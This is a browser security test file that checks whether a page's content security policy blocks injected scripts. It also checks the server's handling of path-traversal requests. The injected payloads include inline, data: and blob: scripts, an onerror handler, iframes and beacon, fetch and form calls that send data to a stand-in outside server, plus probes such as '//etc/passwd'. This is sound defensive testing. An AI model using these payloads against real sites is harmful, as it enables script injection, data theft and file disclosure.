/** What the page may not do, tried from within the page in a real browser: as if words of a plan had become a script. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest';
import { type Door, forget, launchBrowser, openPage, startDoor } from './harness.ts';

let browser: Browser;
let door: Door;
beforeAll(async () => {
	browser = await launchBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
	door = await startDoor();
});
afterEach(async () => {
	await door.stop();
	forget(door.data);
});

/** A server that is not ours, and what it was asked for. */
async function listen() {
	const asked: string[] = [];
	const server = createServer(({ method, url }, answer) => {
		asked.push(`${method} ${url}`);
		answer.end();
	});
	await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
	const { port } = server.address() as AddressInfo;
	return { asked, address: `http://127.0.0.1:${port}`, close: () => server.close() };
}

it('a script that got into the page runs nothing, sends nothing, loads nothing, opens nothing and is granted nothing', async () => {
	const elsewhere = await listen();
	const { page, context } = await openPage(browser, door);
	await page.getByRole('heading', { name: 'One plan, two voices' }).waitFor();
	const address = page.url();
	const done = await page.evaluate(async (elsewhere) => {
		const refused = new Set<string>();
		document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective));
		const put = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
		const script = (set: (element: HTMLScriptElement) => void) => {
			const element = document.createElement('script');
			set(element);
			document.body.append(element);
		};
		script((element) => {
			element.textContent = 'window.ran = "inline"';
		});
		script((element) => {
			element.src = 'data:text/javascript,window.ran="data"';
		});
		script((element) => {
			element.src = URL.createObjectURL(new Blob(['window.ran = "blob"']));
		});
		put('<img src="x:" onerror="window.ran = \'handler\'">');
		put(`<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><iframe src="${elsewhere}/"></iframe>`);
		put(`<object data="${elsewhere}/x.swf"></object><base href="${elsewhere}/">`);
		put(`<style>body { background: url(${elsewhere}/leak.png) }</style><img src="${elsewhere}/leak">`);
		put(`<form id="away" action="${elsewhere}/" method="post"><input name="plan" value="all"></form>`);
		(document.getElementById('away') as HTMLFormElement).submit();
		const sent = await Promise.allSettled([
			fetch(`${elsewhere}/leak`),
			navigator.serviceWorker?.register('/none.js') ?? Promise.reject(new Error('none')),
		]);
		navigator.sendBeacon(`${elsewhere}/leak`, 'plan');
		const granted = await Promise.allSettled([
			navigator.mediaDevices.getUserMedia({ audio: true }),
			new Promise((found, failed) => navigator.geolocation.getCurrentPosition(found, failed)),
		]);
		await new Promise((wait) => setTimeout(wait, 300));
		return {
			ran: (window as { ran?: string }).ran ?? null,
			left: sent.filter(({ status }) => status === 'fulfilled').length,
			granted: granted.filter(({ status }) => status === 'fulfilled').length,
			base: new URL(document.baseURI).host === location.host,
			refused: [...refused].sort(),
		};
	}, elsewhere.address);
	expect(done).toMatchObject({ ran: null, left: 0, granted: 0, base: true });
	expect(done.refused).toEqual(
		expect.arrayContaining(
			['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'script-src-attr'].concat([
				'script-src-elem',
				'style-src-elem',
			]),
		),
	);
	expect([elsewhere.asked, page.url()]).toEqual([[], address]);
	elsewhere.close();
	await context.close();
});

it.skipIf(process.env.COVALENT_WINDOW === 'desktop')(
	'nobody frames the page, and nothing is answered but by exact name',
	async () => {
		const { origin } = new URL(door.address);
		const ask = (path: string, method = 'GET') => fetch(`${origin}${path}`, { method, redirect: 'manual' });
		for (const path of [
			'/../package.json',
			'/%2e%2e/package.json',
			'/assets/..%2f..%2fpackage.json',
			'/constructor',
			'//etc/passwd',
		]) {
			const answer = await ask(path);
			expect([answer.status >= 400, (await answer.text()).includes('devDependencies')], path).toEqual([true, false]);
		}
		const headers = (await ask('/')).headers;
		expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
	},
);
